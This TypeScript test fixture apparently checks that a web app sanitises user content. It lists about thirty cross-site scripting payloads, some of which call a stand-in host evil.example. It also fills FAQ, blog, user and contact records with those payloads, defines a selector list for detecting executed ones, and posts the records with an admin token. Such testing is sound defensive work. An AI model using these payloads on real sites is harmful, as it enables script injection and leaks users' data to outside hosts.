/** Each would set `window.hit`, open a dialog or ask another host, were it anything but text. */
export const payloads = [
  `<script>hit=1</script>`,
  `</script><script>hit=1</script>`,
  `<ScRiPt>hit=1</sCrIpT>`,
  `<img src=x onerror=hit=1>`,
  `<img src=https://evil.example/a.png>`,
  `"><img src=x onerror=hit=1>`,
  `'><svg onload=hit=1>`,
  `<svg><script>hit=1</script></svg>`,
  `<body onload=hit=1>`,
  `<iframe src=javascript:hit=1>`,
  `<iframe srcdoc="<script>parent.hit=1</script>">`,
  `<a href="javascript:hit=1">x</a>`,
  `<a href="jav&#x09;ascript:hit=1">x</a>`,
  `[x](javascript:hit=1)`,
  `![x](https://evil.example/b.png)`,
  `[x](data:text/html,<script>hit=1</script>)`,
  `<details open ontoggle=hit=1>x</details>`,
  `<input autofocus onfocus=hit=1>`,
  `<video><source onerror=hit=1></video>`,
  `<math><mi//xlink:href="data:x,<script>hit=1</script>">`,
  `<style>@import "https://evil.example/c.css"</style>`,
  `<link rel=stylesheet href=https://evil.example/d.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example><button>x</button></form>`,
  `<object data=javascript:hit=1></object>`,
  `<template><img src=x onerror=hit=1></template>`,
  `<!--><img src=x onerror=hit=1>-->`,
  `&lt;script&gt;hit=1&lt;/script&gt;`,
  `{{constructor.constructor("hit=1")()}}\${hit=1}`,
];
const payload = (at: number) => payloads[at % payloads.length]!;

/** Records by their list, each with payloads as its texts. */
export const hostileRecords = {
  "/api/faq": (at: number) => ({ title: payload(at), body: payload(at + 7) }),
  // A picture of any https host is what a post may hold; everything else is not.
  "/api/blog": (at: number) => ({ title: payload(at), body: payload(at).replace(/^!.*/, "x"), image: "" }),
  "/api/user": (at: number) => ({
    ...{ first_name: payload(at), last_name: payload(at + 1), name: payload(at + 2), user_name: payload(at + 3) },
    ...{ email: `"><svg/onload=hit=${at}>@evil.example`, password: "correct horse", role: 0 },
  }),
  "/api/contact": (at: number) => ({
    ...{ first_name: payload(at), last_name: payload(at + 1), country: payload(at + 2), message: payload(at + 3) },
    ...{ organization: payload(at + 4), phone: "0221234567", email: `"><svg/onload=hit=${at}>@evil.example` },
  }),
};

/** What a payload that is not mere text would have made. An address in the text of a post is a link and no more, no mail has more than one recipient and no text. */
export const madeByPayloads = `[onerror], [onload], [onfocus], [ontoggle], main script:not([type$=json]), iframe, object, base, main meta, main form [formaction], [href^=javascript], [href^=data], [src*=evil], [href*=evil]:not([href^="mailto:"], .prose > p > a[href^="https:"]), [href^="mailto:"]:is([href*="?"], [href*="&"])`;

/** Adds one record for each payload, as an administrator, and answers them. */
export async function addHostile(url: string, list: keyof typeof hostileRecords, token: string) {
  const added: { _id: string; title: string }[] = [];
  for (const at of payloads.keys()) {
    const headers = { "content-type": "application/json", "x-auth-token": token };
    const body = JSON.stringify(hostileRecords[list](at));
    const answer = await fetch(url + list, { method: "POST", headers, body });
    if (answer.status !== 201) throw new Error(await answer.text());
    added.push((await answer.json()) as (typeof added)[number]);
  }
  return added;
}
